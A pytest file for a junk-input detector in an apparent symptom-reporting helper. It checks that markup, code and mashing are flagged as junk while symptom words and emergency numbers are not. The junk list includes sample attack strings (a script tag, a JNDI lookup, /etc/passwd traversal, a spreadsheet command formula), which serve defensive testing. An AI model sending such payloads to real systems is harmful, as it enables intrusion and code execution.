"""Junk detection (spasm_aid.red_flags.junk, issue 14): markup, code, identifiers and mashing
are junk; anything with a word at or near a symptom word, a call for help or an emergency
number is not, and neither is anything a person wrote in the evaluation sets."""
import pytest

from tools.evaluation.dataset import EVAL_SETS, load_examples

JUNK = [
    "<script>alert(1)</script>", "__proto__", "{{7*7}}", "${jndi:ldap://x/a}", "../../etc/passwd",
    "SELECT * FROM users WHERE id = 1", "constructor.prototype", "asdfghjkl", "xqzv bnrt plkm",
    "lololol jkjkjk", "0x41414141", "4242 4242", "null", "!!!???", "🙂🙂🙂", "=cmd|' /C calc'!A0",
]
NOT_JUNK = [
    "legz numm", "cant feel legs", "<b>my legs are numb</b>", "ambulance", "911", "call 999", "y", "ok", "no",
    "hello", "true", "my back (lower) hurts", "I'm 50% better", "lorem ipsum hurts", "??? my chest",
    "ich habe Schmerzen im Bein",  # a leg word, though German: not junk (the classifier decides)
]


@pytest.mark.parametrize("text", JUNK)
def test_markup_code_identifiers_and_mashing_are_junk(guard, text):
    result = guard.detect(text)
    assert result.junk and not result.is_emergency


@pytest.mark.parametrize("text", NOT_JUNK)
def test_words_that_may_describe_a_symptom_or_answer_a_question_are_not_junk(guard, text):
    assert not guard.detect(text).junk


def test_a_red_flag_wrapped_in_markup_is_still_a_red_flag(guard):
    result = guard.detect("<b>I can't feel my legs</b>")
    assert result.is_emergency and not result.junk


@pytest.mark.parametrize("set_name", sorted(EVAL_SETS))
def test_no_message_of_the_evaluation_sets_is_taken_for_junk(guard, set_name):
    taken = [e.text for e in load_examples(EVAL_SETS[set_name]) if guard.detect(e.text).junk]
    assert taken == []


@pytest.mark.parametrize("text, mentioned", [
    ("we need to fix the fence", False), ("go forward 10 meters", False), ("where did I put my glasses", False),
    ("my legz feel odd", True),  # one letter from a symptom word
    ("I need help", True), ("something feels really wrong", True), ("my bum went numb", True),
    ("I fell", True),  # a flag found counts as a mention
])
def test_the_guard_says_whether_a_message_has_a_word_of_the_symptom_vocabulary(guard, text, mentioned):
    assert guard.detect(text).symptom_mentioned is mentioned


def test_the_configured_emergency_number_is_never_junk(guard, monkeypatch):
    monkeypatch.setenv("SPASM_AID_EMERGENCY_NUMBER", "1122")
    assert not guard.detect("1122").junk and not guard.detect("1122??").junk
